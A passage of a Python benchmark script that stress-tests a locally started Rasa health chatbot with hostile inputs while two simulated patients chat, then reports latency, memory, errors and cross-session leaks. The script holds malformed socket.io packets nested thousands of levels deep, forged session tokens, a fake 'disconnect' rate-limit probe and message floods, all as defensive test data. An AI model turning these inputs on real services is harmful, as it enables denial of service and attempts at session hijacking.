                    expected=False,
                )
            )
            await asyncio.sleep(0.5)
            progress()
            continue
        try:
            if case.session in ("new", "forged"):
                token = case.token
                if isinstance(token, str) and B_ID in token:
                    token = token.replace(B_ID, run.b_session)
                got = await widget.new_session(token if case.session == "forged" else None)
                if got is None:
                    run.outcomes.append(
                        Outcome(
                            "socketio",
                            case.kind,
                            "error",
                            None,
                            error="no session_confirm",
                            label=case.label or case.kind,
                            expected=False,
                        )
                    )
                    progress()
                    continue
                if case.session == "forged" and run.b_session and widget.session == run.b_session:
                    run.hijacks += 1
            data = case.data
            if isinstance(data, dict) and data.get("session_id") == B_ID:
                data = {**data, "session_id": run.b_session}
            widget.received.clear()
            await pacer.wait()
            started = time.perf_counter()
            await widget.client.emit(case.event, data)  # data None: an event with no argument
            waited = await widget.first_reply(0, SIO_REPLY_TIMEOUT if case.expect_reply else 1.5, started)
            if case.oversized:
                deadline = time.monotonic() + 5
                while widget.alive and time.monotonic() < deadline:
                    await asyncio.sleep(0.05)
            await asyncio.sleep(0.05)  # the rest of a multi-part answer
            texts = [str(m.get("text") or "") for m in widget.received]
            if waited is not None:
                status = "reply"
            elif not widget.alive:
                status = "dropped"
            else:
                status = "no reply"
            expected = "dropped" if case.oversized else "reply" if case.expect_reply else "no reply"
            run.outcomes.append(
                Outcome(
                    "socketio",
                    case.kind,
                    status,
                    waited * 1000 if waited is not None else None,
                    refusal=refusal_of(texts),
                    texts=texts,
                    label=case.label or case.kind,
                    expected=status == expected,
                )
            )
        except (socketio.exceptions.SocketIOError, OSError, TimeoutError) as exc:
            run.outcomes.append(
                Outcome(
                    "socketio",
                    case.kind,
                    "error",
                    None,
                    error=type(exc).__name__,
                    label=case.label or case.kind,
                    expected=False,
                )
            )
        progress()
    await widget.shutdown()


async def patient_a(run: Run, stop: asyncio.Event, interval: float, pool: ThreadPoolExecutor) -> None:
    """Ordinary REST messages with A's marker, at a steady pace, on a thread of its own."""
    loop = asyncio.get_running_loop()
    sender = f"patient-a-{uuid.uuid4().hex[:8]}"
    host, port = run.settings.host, run.settings.rasa_port
    headers = {"Content-Type": "application/json", "Authorization": f"Bearer {run.token}"}
    n = 0
    while not stop.is_set():
        next_at = time.monotonic() + interval
        text = f"{ENGLISH[n % len(ENGLISH)]} {run.marker_a}"
        case = RestCase("patient", json_body(sender, text), headers)
        sent_at = time.monotonic()
        outcome = await loop.run_in_executor(pool, http_call, host, port, case, PATIENT_TIMEOUT)
        answered = outcome.status == "200" and bool(outcome.texts) and not outcome.refusal
        run.patients["A"].append((sent_at, outcome.latency_ms if answered else None, outcome.refusal or outcome.status))
        run.patient_texts["A"] += outcome.texts
        n += 1
        await _sleep_until(next_at, stop)
    run.patient_texts["A-sender"] = [sender]


async def patient_b(run: Run, stop: asyncio.Event, interval: float, ready: asyncio.Event) -> None:
    """Ordinary widget messages with B's marker over one socket.io connection and session."""
    widget = Widget(run.settings.rasa_url)
    await widget.connect()
    if await widget.new_session() is None:
        raise RuntimeError("patient B got no session_confirm")
    run.b_session = widget.session
    ready.set()
    n = 0
    try:
        while not stop.is_set():
            next_at = time.monotonic() + interval
            if not widget.alive:  # counted as unanswered; B comes back with its token, as the widget does
                run.patients["B"].append((time.monotonic(), None, "disconnected"))
                await widget.connect()
                await widget.new_session(widget.token)
            await asyncio.sleep(0.3)  # a multi-part answer to the last message has arrived by now
            since = len(widget.received)
            text = f"{ENGLISH[(n + 3) % len(ENGLISH)]} {run.marker_b}"
            started, sent_at = time.perf_counter(), time.monotonic()
            await widget.client.emit("user_uttered", {"message": text})
            waited = await widget.first_reply(since, PATIENT_TIMEOUT, started)
            texts = [str(m.get("text") or "") for m in widget.received[since:]]
            refusal = refusal_of(texts)
            answered = waited is not None and not refusal
            run.patients["B"].append(
                (
                    sent_at,
                    waited * 1000 if answered and waited is not None else None,
                    refusal or ("reply" if waited is not None else "no reply"),
                )
            )
            n += 1
            await _sleep_until(next_at, stop)
        await asyncio.sleep(1.0)
    finally:
        run.patient_texts["B"] = [str(m.get("text") or "") for m in widget.received]
        await widget.shutdown()


async def _sleep_until(when: float, stop: asyncio.Event) -> None:
    with contextlib.suppress(TimeoutError):
        await asyncio.wait_for(stop.wait(), timeout=max(0.0, when - time.monotonic()))


async def sample_memory(run: Run, pid: int | None, stop: asyncio.Event) -> None:
    while not stop.is_set():
        run.rss_samples.append(rss_mb(pid))
        await _sleep_until(time.monotonic() + 1.0, stop)


async def attack(
    run: Run,
    rest: list[RestCase],
    sio: list[SioCase],
    workers: int,
    sio_clients: int,
    sio_interval: float,
    patient_interval: float,
    baseline: float,
    rasa_pid: int | None,
    quiet: bool,
) -> None:
    loop = asyncio.get_running_loop()
    stop, stop_memory, b_ready = asyncio.Event(), asyncio.Event(), asyncio.Event()
    total = len(rest) + len(sio)
    done = 0

    def progress() -> None:
        nonlocal done
        done += 1
        if not quiet and done % 250 == 0:
            print(f"  ... {done}/{total} hostile messages", file=sys.stderr, flush=True)

    with ThreadPoolExecutor(max_workers=1) as patient_pool, ThreadPoolExecutor(max_workers=workers) as pool:
        patients = [
            asyncio.create_task(patient_a(run, stop, patient_interval, patient_pool)),
            asyncio.create_task(patient_b(run, stop, patient_interval, b_ready)),
        ]
        memory = asyncio.create_task(sample_memory(run, rasa_pid, stop_memory))
        await asyncio.wait_for(b_ready.wait(), timeout=60)
        await asyncio.sleep(baseline)

        async def rest_part() -> None:
            host, port = run.settings.host, run.settings.rasa_port
            futures = [loop.run_in_executor(pool, http_call, host, port, case) for case in rest]
            for future in asyncio.as_completed(futures):
                run.outcomes.append(await future)
                progress()
            run.rest_seconds = time.monotonic() - run.attack_started

        async def sio_part() -> None:
            await asyncio.gather(*[sio_hostile(run, chunk, pacer, progress) for chunk in chunks])
            run.sio_seconds = time.monotonic() - run.attack_started

        pacer = Pacer(sio_interval)
        chunks = [sio[i::sio_clients] for i in range(sio_clients)]
        run.attack_started = time.monotonic()
        await asyncio.gather(rest_part(), sio_part())
        run.attack_ended = time.monotonic()
        await asyncio.sleep(baseline)  # the patients once the attack is over
        stop.set()
        await asyncio.gather(*patients)
        stop_memory.set()
        await memory


async def throughput(settings: Settings, cases: list[SioCase], clients: int) -> tuple[list[Outcome], float]:
    run = Run(settings, "", "", "")
    started = time.perf_counter()
    chunks = [cases[i::clients] for i in range(clients)]
    await asyncio.gather(*[sio_hostile(run, chunk, Pacer(0), lambda: None) for chunk in chunks])
    return run.outcomes, time.perf_counter() - started


async def address_pace_probe(settings: Settings, messages: int = 130) -> dict[str, int]:
    """A socket.io client that first emits an event named "disconnect" (any client can), then sends ``messages``
    quick messages from new sessions of 25 (under the per-sender pace). While the per-address pace (120 a minute)
    holds, at least ``messages - 120`` of them are refused as too fast."""
    widget = Widget(settings.rasa_url)
    await widget.connect()
    await widget.client.emit("disconnect", None)
    await asyncio.sleep(0.3)
    too_fast = answered = 0
    for n in range(messages):
        if n % 25 == 0 and await widget.new_session() is None:
            break
        widget.received.clear()
        await widget.client.emit("user_uttered", {"message": ENGLISH[n % len(ENGLISH)]})
        if await widget.first_reply(0, SIO_REPLY_TIMEOUT) is not None:
            await asyncio.sleep(0.05)
            refused = refusal_of([str(m.get("text") or "") for m in widget.received]) == "too fast"
            too_fast += refused
            answered += not refused
    await widget.shutdown()
    return {
        "sent": messages,
        "refused as too fast": too_fast,
        "answered": answered,
        "at least this many refused if the pace holds": max(0, messages - settings.address_messages_per_minute),
    }


RAW_PACKETS: list[tuple[str, str | bytes]] = [
    ("event with arrays nested 1,000 deep", '42["user_uttered",' + "[" * 1000 + "]" * 1000 + "]"),
    ("event with arrays nested 20,000 deep", '42["user_uttered",' + "[" * 20_000 + "]" * 20_000 + "]"),
    ("event with objects nested 5,000 deep", '42["user_uttered",' + '{"a":' * 5000 + "1" + "}" * 5000 + "]"),
    ("truncated JSON", '42["user_uttered",{"message":"hi"'),
    ("not JSON", "42hello"),
    ("empty event", "42[]"),
    ("event name an object", '42[{"a":1},"x"]'),
    ("unknown socket.io packet type", "49"),
    ("unknown engine.io packet type", "9hello"),
    ("another namespace", "40/admin,"),
    ("binary placeholder, no attachment", '451-["user_uttered",{"_placeholder":true,"num":0}]'),
    ("NUL in the message", '42["user_uttered",{"message":"\u0000\u0000"}]'),
    ("invalid UTF-8", b'42["user_uttered",{"message":"\xff\xfe"}]'),
    ("1,000 messages in one payload", "\x1e".join(['42["user_uttered",{"message":"hi"}]'] * 1000)),
]


async def raw_socketio_packets(settings: Settings) -> dict[str, str]:
    """Engine.io polling requests written by hand (a client library would refuse to send these), each on a new
    connection that has a session: what the POST of each packet answers."""
    base = f"{settings.rasa_url}/socket.io/"
    results: dict[str, str] = {}
    timeout = aiohttp.ClientTimeout(total=30)
    async with aiohttp.ClientSession(cookie_jar=aiohttp.DummyCookieJar(), timeout=timeout) as http:
        for label, packet in RAW_PACKETS:
            try:
                async with http.get(base, params={"EIO": "4", "transport": "polling"}) as response:
                    sid = json.loads((await response.text())[1:])["sid"]
                query = {"EIO": "4", "transport": "polling", "sid": sid}
                for setup in ("40", '42["session_request",{"session_id":null}]'):
                    async with http.post(base, params=query, data=setup) as response:
                        await response.read()
                    async with http.get(base, params=query) as response:  # the CONNECT answer, session_confirm
                        await response.read()
                async with http.post(base, params=query, data=packet) as response:
                    results[label] = str(response.status)
            except (aiohttp.ClientError, ValueError, KeyError, TimeoutError) as exc:
                results[label] = type(exc).__name__
    return results


def log_sizes(*paths: Path) -> dict[Path, int]:
    return {path: path.stat().st_size if path.exists() else 0 for path in paths}


def log_errors(since: dict[Path, int]) -> dict[str, int]:
    """ERROR lines and tracebacks written to the servers' logs after ``since`` (path: offset), by exception class
    (never the lines themselves: a traceback can carry a patient's words)."""
    found: Counter[str] = Counter()
    for path, offset in since.items():
        try:
            with path.open("rb") as handle:
                handle.seek(offset)
                text = handle.read().decode("utf-8", errors="replace")
        except OSError:
            continue
        found["ERROR lines"] += len(re.findall(r"^\S+ \S+ +ERROR ", text, re.MULTILINE))
        found["tracebacks"] += text.count("Traceback (most recent call last)")
        for name in re.findall(r"^([A-Za-z_][\w.]*(?:Error|Exception))\b", text, re.MULTILINE):
            found[f"{path.stem}: {name}"] += 1
    return {k: v for k, v in found.items() if v}


# ---------------------------------------------------------------------------------------------------------------
# Reading the results


def rss_mb(pid: int | None) -> float:
    """Resident memory of a process and its children, in MB (0 when it is gone)."""
    if pid is None:
        return 0.0
    total = 0
    pids = [pid]
    children = Path(f"/proc/{pid}/task/{pid}/children")
    with contextlib.suppress(OSError):
        pids += [int(p) for p in children.read_text().split()]
    for p in pids:
        try:
            for line in Path(f"/proc/{p}/status").read_text().splitlines():
                if line.startswith("VmRSS:"):
                    total += int(line.split()[1])
        except OSError:
            pass
    return total / 1024


def percentiles(values: list[float]) -> dict[str, float | None]:
    if not values:
        return {"n": 0, "p50": None, "p95": None, "p99": None, "max": None}
    ordered = sorted(values)

    def pct(p: float) -> float:
        return ordered[min(len(ordered) - 1, int(round(p / 100 * (len(ordered) - 1))))]

    return {"n": len(ordered), "p50": statistics.median(ordered), "p95": pct(95), "p99": pct(99), "max": ordered[-1]}


def tracker_text(settings: Settings, sender: str) -> str:
    """A conversation's whole tracker, as text, read through Rasa's HTTP API."""
    import urllib.request

    with urllib.request.urlopen(api_url(settings, f"/conversations/{sender}/tracker"), timeout=60) as response:
        return str(response.read().decode("utf-8", "replace"))


def still_up(settings: Settings, servers: list[ManagedProcess], token: str) -> dict[str, bool]:
    hello = RestCase(
        "final",
        json_body(f"final-{uuid.uuid4().hex[:8]}", "hello"),
        {"Content-Type": "application/json", "Authorization": f"Bearer {token}"},
    )
    answer = http_call(settings.host, settings.rasa_port, hello)
    return {
        "rasa_process": servers[1].running(),
        "action_process": servers[0].running(),
        "answers_hello": answer.status == "200" and bool(answer.texts) and not answer.refusal,
    }


def figures(
    run: Run, started: float, rss: dict[str, float], up: dict[str, bool], args: argparse.Namespace
) -> dict[str, Any]:
    rest = [o for o in run.outcomes if o.transport == "rest"]
    sio = [o for o in run.outcomes if o.transport == "socketio"]
    statuses = Counter(o.status for o in rest)
    five_xx = sum(n for s, n in statuses.items() if s.startswith("5"))
    errors = Counter(f"{o.transport}: {o.error}" for o in run.outcomes if o.error)
    by_kind: dict[str, list[float]] = defaultdict(list)
    for o in run.outcomes:
        if o.latency_ms is not None:
            by_kind[f"{o.transport}:{o.kind}"].append(o.latency_ms)
    kinds = {k: percentiles(v) for k, v in sorted(by_kind.items())}

    during = (run.attack_started, run.attack_ended)
    patients: dict[str, Any] = {}
    for name in ("A", "B"):
        rows = run.patients[name]
        in_attack = [r for r in rows if during[0] <= r[0] <= during[1]]  # sent while the attack went on
        patients[name] = {
            "transport": "REST" if name == "A" else "socket.io",
            "sent": len(rows),
            "answered": sum(1 for r in rows if r[1] is not None),
            "sent_during_attack": len(in_attack),
            "answered_during_attack": sum(1 for r in in_attack if r[1] is not None),
            "not_answered": dict(Counter(r[2] for r in rows if r[1] is None)),
            "latency_ms_during_attack": percentiles([r[1] for r in in_attack if r[1] is not None]),
            "latency_ms_all": percentiles([r[1] for r in rows if r[1] is not None]),
        }

    a_text = "\n".join(run.patient_texts["A"])
    b_text = "\n".join(run.patient_texts["B"])
    hostile_text = "\n".join(t for o in run.outcomes for t in o.texts)
    sender_a = (run.patient_texts.get("A-sender") or [""])[0]
    tracker_a = tracker_text(run.settings, sender_a) if sender_a else ""
    tracker_b = tracker_text(run.settings, run.b_session) if run.b_session else ""
    crossings = {
        "B's marker in replies to A": a_text.count(run.marker_b),
        "A's marker in replies to B": b_text.count(run.marker_a),
        "B's marker in A's tracker": tracker_a.count(run.marker_b),
        "A's marker in B's tracker": tracker_b.count(run.marker_a),
        "a patient's marker in replies to hostile senders": hostile_text.count(run.marker_a)
        + hostile_text.count(run.marker_b),
        "hostile marker in a patient's replies or tracker": sum(
            t.count(HOSTILE_MARKER) for t in (a_text, b_text, tracker_a, tracker_b)
        ),
        "forged socket.io session joined B's conversation": run.hijacks,
    }
    controls = {
        "A's own marker in A's tracker": run.marker_a in tracker_a,
        "B's own marker in B's tracker": run.marker_b in tracker_b,
    }

    hostile_rest = [o.latency_ms for o in rest if o.latency_ms is not None and o.kind != "flood"]
    flood = [o.latency_ms for o in rest if o.latency_ms is not None and o.kind == "flood"]
    hostile_sio = [o.latency_ms for o in sio if o.latency_ms is not None]
    s = run.settings
    result: dict[str, Any] = {
        "seed": args.seed,
        "wall_seconds": round(time.monotonic() - started, 1),
        "attack_seconds": round(run.attack_ended - run.attack_started, 1),
        "rest_part_seconds": round(run.rest_seconds, 1),
        "socketio_part_seconds": round(run.sio_seconds, 1),
        "limits_in_force": {
            "max_message_chars": s.max_message_chars,
            "sender_messages_per_minute": s.sender_messages_per_minute,
            "address_messages_per_minute (socket.io)": s.address_messages_per_minute,
            "max_body_bytes (REST)": REQUEST_MAX_BYTES,
            "max_packet_bytes (socket.io)": MAX_PACKET_BYTES,
            "hostile socket.io pace (per minute, all clients)": round(60 / args.sio_interval, 1)
            if args.sio_interval > 0
            else None,
            "patient pace (per minute, each)": round(60 / args.patient_interval, 1),
        },
        "sent": {
            "REST, JSON messages": sum(1 for o in rest if o.kind not in RAW_KINDS),
            "REST, raw bodies/headers/methods/paths": sum(1 for o in rest if o.kind in RAW_KINDS),
            "socket.io": len(sio),
            "patient A (REST)": patients["A"]["sent"],
            "patient B (socket.io)": patients["B"]["sent"],
        },
        "rest_status": dict(sorted(statuses.items())),
        "rest_5xx": five_xx,
        "rest_5xx_inputs": dict(Counter(o.label for o in rest if o.status.startswith("5"))),
        "rest_200_without_any_reply": dict(Counter(o.label for o in rest if o.silent)),
        "socketio_outcomes": dict(Counter(f"{o.status} ({'expected' if o.expected else 'unexpected'})" for o in sio)),
        "socketio_unexpected": dict(Counter(f"{o.label}: {o.status}" for o in sio if not o.expected)),
        "errors": dict(errors),
        "kind_replies": dict(Counter(o.refusal for o in run.outcomes if o.refusal)),
        "latency_ms": {
            "hostile REST, a fresh sender each": percentiles(hostile_rest),
            "hostile REST, flood: 40 from one sender": percentiles(flood),
            "hostile socket.io": percentiles(hostile_sio),
            "patient A during attack": patients["A"]["latency_ms_during_attack"],
            "patient B during attack": patients["B"]["latency_ms_during_attack"],
        },
        "latency_ms_by_kind": kinds,
        "patients": patients,
        "crossings": crossings,
        "crossings_total": sum(crossings.values()),
        "crossing_controls": controls,
        "rasa_rss_mb": rss,
        "servers_up_at_end": up,
        "server_log_errors": run.log_errors,
        "socketio_fake_disconnect_pace_probe": run.pace_probe,
        "socketio_raw_packets": run.raw_packets,
    }
    return result


def throughput_figures(outcomes: list[Outcome], seconds: float) -> dict[str, Any]:
    return {
        "limits": {"sender_messages_per_minute": 100000, "address_messages_per_minute": 100000},
        "socket.io messages": len(outcomes),
        "seconds": round(seconds, 1),
        "messages per second": round(len(outcomes) / seconds, 1) if seconds else None,
        "outcomes": dict(Counter(o.status for o in outcomes)),
        "errors": dict(Counter(o.error for o in outcomes if o.error)),
        "unexpected": dict(Counter(f"{o.label}: {o.status}" for o in outcomes if not o.expected)),
        "latency_ms": percentiles([o.latency_ms for o in outcomes if o.latency_ms is not None]),
    }


RAW_KINDS = {"json-odd", "content-type", "method", "path", "auth", "sender"}


def table(f: dict[str, Any]) -> str:
    def ms(v: float | None) -> str:
        return "-" if v is None else f"{v:,.0f}"

    def verdict(ok: bool) -> str:
        return "ok" if ok else "MISSED"

    lines: list[str] = []
    limits = f["limits_in_force"]
    lines.append(
        f"plainhealth hostile-input benchmark: seed {f['seed']}, attack {f['attack_seconds']:.0f} s "
        f"(REST part {f['rest_part_seconds']:.0f} s, socket.io part {f['socketio_part_seconds']:.0f} s), "
        f"whole run {f['wall_seconds']:.0f} s"
    )
    lines.append("limits in force: " + "; ".join(f"{k} {v}" for k, v in limits.items()))
    lines.append("")
    w = 52

    def row(label: str, figure: str, target: str = "", ok: bool | None = None) -> None:
        mark = "" if ok is None else verdict(ok)
        lines.append(f"  {label.ljust(w)} {figure.rjust(14)}   {target.ljust(18)} {mark}".rstrip())

    lines.append(f"  {'':{w}} {'figure':>14}   {'target':18}")
    lines.append("Messages sent")
    for label, n in f["sent"].items():
        row(label, f"{n:,}")
    lines.append("REST status codes: " + ", ".join(f"{s}: {n:,}" for s, n in f["rest_status"].items()))
    row("REST 5xx", f"{f['rest_5xx']:,}", "0", f["rest_5xx"] == 0)
    if f["rest_5xx_inputs"]:
        lines.append("    5xx for: " + ", ".join(f"{k} ({n})" for k, n in f["rest_5xx_inputs"].items()))
    silent = f["rest_200_without_any_reply"]
    row("REST 200 with no reply at all (silence)", f"{sum(silent.values()):,}", "0", not silent)
    if silent:
        lines.append("    for: " + ", ".join(f"{k} ({n})" for k, n in sorted(silent.items(), key=lambda kv: -kv[1])))
    lines.append("socket.io outcomes: " + ", ".join(f"{s}: {n:,}" for s, n in sorted(f["socketio_outcomes"].items())))
    unexpected = sum(n for s, n in f["socketio_outcomes"].items() if "unexpected" in s)
    row("socket.io unexpected outcomes", f"{unexpected:,}", "0", unexpected == 0)
    if f["socketio_unexpected"]:
        lines.append("    " + ", ".join(f"{k} ({n})" for k, n in f["socketio_unexpected"].items()))
    total_errors = sum(f["errors"].values())
    row("errors / exceptions (resets, timeouts, ...)", f"{total_errors:,}", "0", total_errors == 0)
    for name, n in sorted(f["errors"].items(), key=lambda kv: -kv[1])[:6]:
        lines.append(f"    {name}: {n}")
    lines.append(
        "kind replies instead of an answer: "
        + (", ".join(f"{k}: {n:,}" for k, n in sorted(f["kind_replies"].items())) or "none")
    )
    lines.append("")
    lines.append(f"  {'latency, ms':{w}} {'n':>7} {'p50':>7} {'p95':>7} {'p99':>7} {'max':>7}   target")
    for label, p in f["latency_ms"].items():
        ok = p["p99"] is not None and p["p99"] < P99_TARGET_MS
        lines.append(
            f"  {label:{w}} {p['n']:>7,} {ms(p['p50']):>7} {ms(p['p95']):>7} {ms(p['p99']):>7} "
            f"{ms(p['max']):>7}   p99 < 1,000  {verdict(ok)}"
        )
    slow = sorted(f["latency_ms_by_kind"].items(), key=lambda kv: -(kv[1]["p99"] or 0))[:5]
    lines.append(
        "  slowest kinds of input (p99 / max): " + ", ".join(f"{k} {ms(p['p99'])}/{ms(p['max'])}" for k, p in slow)
    )
    over = [k for k, p in f["latency_ms_by_kind"].items() if (p["p99"] or 0) >= P99_TARGET_MS]
    row("kinds of input with p99 >= 1 s", f"{len(over)}", "0", not over)
    lines.append("")
    row("crossings", f"{f['crossings_total']:,}", "0", f["crossings_total"] == 0)
    for name, n in f["crossings"].items():
        lines.append(f"    {name}: {n}")
    lines.append(
        "    (checks work: "
        + ", ".join(f"{k}: {'yes' if v else 'NO'}" for k, v in f["crossing_controls"].items())
        + ")"
    )
    for name, p in f["patients"].items():
        ok = p["answered"] == p["sent"] and p["sent_during_attack"] > 0
        row(f"patient {name} ({p['transport']}) answered", f"{p['answered']}/{p['sent']}", "all, throughout", ok)
        if p["not_answered"]:
            lines.append("    not answered: " + ", ".join(f"{k} {n}" for k, n in p["not_answered"].items()))
    rss = f["rasa_rss_mb"]
    row("Rasa server RSS, MB: before / peak / after", f"{rss['before']:.0f} / {rss['peak']:.0f} / {rss['after']:.0f}")
    row("action server RSS, MB: before / after", f"{rss['actions_before']:.0f} / {rss['actions_after']:.0f}")
    up = f["servers_up_at_end"]
    row(
        "servers up at the end (Rasa, actions, answers hello)",
        " / ".join("yes" if up[k] else "NO" for k in ("rasa_process", "action_process", "answers_hello")),
        "yes / yes / yes",
        all(up.values()),
    )
    raw = f["socketio_raw_packets"]
    if raw:
        lines.append(
            f"raw socket.io packets ({len(raw)}), HTTP status of each POST: "
            + ", ".join(f"{s}: {n}" for s, n in sorted(Counter(raw.values()).items()))
        )
        odd = {k: v for k, v in raw.items() if v != "200"}
        if odd:
            lines.append("    not 200: " + ", ".join(f"{k} {v}" for k, v in odd.items()))
    logged = f["server_log_errors"]
    row(
        "server logs during the attack: tracebacks",
        f"{logged.get('tracebacks', 0):,}",
        "0",
        not logged.get("tracebacks"),
    )
    if logged:
        lines.append("    " + ", ".join(f"{k} {n}" for k, n in logged.items()))
    probe = f["socketio_fake_disconnect_pace_probe"]
    if probe:
        need = probe["at least this many refused if the pace holds"]
        row(
            "socket.io pace after a fake 'disconnect' event: refused",
            f"{probe['refused as too fast']}/{probe['sent']}",
            f">= {need} (120/min)",
            probe["refused as too fast"] >= need,
        )
    if "throughput_phase" in f:
        t = f["throughput_phase"]
        p = t["latency_ms"]
        lines.append("")
        lines.append(
            f"Throughput phase (limits raised: {t['limits']}): {t['socket.io messages']:,} socket.io "
            f"messages in {t['seconds']} s = {t['messages per second']} per second"
        )
        lines.append(
            f"  outcomes {t['outcomes']}; errors {t['errors'] or 'none'}; latency ms p50 {ms(p['p50'])} "
            f"p95 {ms(p['p95'])} p99 {ms(p['p99'])} max {ms(p['max'])}"
        )
        if t["unexpected"]:
            lines.append("  unexpected: " + ", ".join(f"{k} ({n})" for k, n in t["unexpected"].items()))
    return "\n".join(lines)


# ---------------------------------------------------------------------------------------------------------------


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0] if __doc__ else None)
    parser.add_argument(
        "--count",
        type=int,
        default=2000,
        help="hostile messages in all (default 2000); each fixed case is sent once whatever the count, "
        "so below about 400 the run sends a little more",
    )
    parser.add_argument(
        "--sio-count",
        type=int,
        default=None,
        help="how many of them go over socket.io (default count/10; paced, see --sio-interval)",
    )
    parser.add_argument("--workers", type=int, default=6, help="concurrent hostile REST senders (default 6)")
    parser.add_argument("--sio-clients", type=int, default=2, help="concurrent hostile socket.io clients")
    parser.add_argument(
        "--sio-interval",
        type=float,
        default=0.8,
        help="seconds between hostile socket.io messages (0.8 = 75 a minute: with patient B's 20, "
        "under the 120 a minute the channel allows one address)",
    )
    parser.add_argument("--patient-interval", type=float, default=3.0, help="seconds between a patient's messages")
    parser.add_argument("--baseline", type=float, default=6.0, help="seconds of patients alone before and after")
    parser.add_argument(
        "--throughput",
        type=int,
        default=0,
        metavar="N",
        help="also flood socket.io with N messages on a Rasa server restarted with the pace limits "
        "raised (default 0: no such phase)",
    )
    parser.add_argument("--seed", type=int, default=20240611)
    parser.add_argument("--json", action="store_true", help="print the figures as JSON instead of a table")
    args = parser.parse_args()
    sio_count = args.count // 10 if args.sio_count is None else args.sio_count

    def say(text: str) -> None:
        print(text, file=sys.stderr, flush=True)

    started = time.monotonic()
    model = ensure_model(Settings(project_dir=PROJECT_ROOT), quiet=True).model
    with tempfile.TemporaryDirectory() as tmp:
        settings = Settings(
            project_dir=PROJECT_ROOT,
            state_dir=Path(tmp) / "state",
            models_dir=PROJECT_ROOT / "models",
            rasa_port=free_port(),
            action_port=free_port(),
            web_port=free_port(),
        )
        token = rest_token(settings)
        rest, sio = build_plan(args.seed, args.count, sio_count, token)
        servers: list[ManagedProcess] = [action_server(settings), rasa_server(settings, model)]
        say(f"starting the servers (model {model.name}) ...")
        try:
            for server in servers:
                server.start()
            for server in servers:
                server.wait_ready()
            warm = RestCase(
                "warm-up",
                json_body("warm-up", "hello"),
                {"Content-Type": "application/json", "Authorization": f"Bearer {token}"},
            )
            for _ in range(3):
                http_call(settings.host, settings.rasa_port, warm)
            run = Run(settings, token, f"zqa{uuid.uuid4().hex[:10]}", f"zqb{uuid.uuid4().hex[:10]}")
            rss = {"before": rss_mb(servers[1].pid), "actions_before": rss_mb(servers[0].pid)}
            logs_before = log_sizes(*(server.log_path for server in servers))
            say(f"attack: {len(rest):,} REST + {len(sio):,} socket.io hostile messages, patients A and B throughout")
            asyncio.run(
                attack(
                    run,
                    rest,
                    sio,
                    args.workers,
                    args.sio_clients,
                    args.sio_interval,
                    args.patient_interval,
                    args.baseline,
                    servers[1].pid,
                    quiet=False,
                )
            )
            time.sleep(1.0)
            rss["after"] = rss_mb(servers[1].pid)
            rss["peak"] = max([*run.rss_samples, rss["before"], rss["after"]])
            rss["actions_after"] = rss_mb(servers[0].pid)
            say("probing the socket.io pace after a fake 'disconnect' event, then raw socket.io packets ...")
            run.pace_probe = asyncio.run(address_pace_probe(settings))
            run.raw_packets = asyncio.run(raw_socketio_packets(settings))
            up = still_up(settings, servers, token)
            run.log_errors = log_errors(logs_before)
            say("reading the patients' trackers ...")
            result = figures(run, started, rss, up, args)
            if args.throughput > 0:
                say(f"throughput phase: restarting Rasa with the pace limits raised, {args.throughput} messages ...")
                servers[1].stop()
                raised = settings.with_changes(address_messages_per_minute=100_000, sender_messages_per_minute=100_000)
                servers[1] = rasa_server(raised, model)
                servers[1].start()
                servers[1].wait_ready()
                _, flood = build_plan(args.seed + 1, args.throughput, args.throughput, token)
                flood = [c for c in flood if not c.oversized and c.expect_reply][: args.throughput]
                result["throughput_phase"] = throughput_figures(
                    *asyncio.run(throughput(raised, flood, max(args.sio_clients, 4)))
                )
                result["wall_seconds"] = round(time.monotonic() - started, 1)
        finally:
            for server in servers:
                server.stop()
    if args.json:
        print(json.dumps(result, indent=2, ensure_ascii=False))
    else:
        print(table(result))
    return 0


if __name__ == "__main__":
    sys.exit(main())
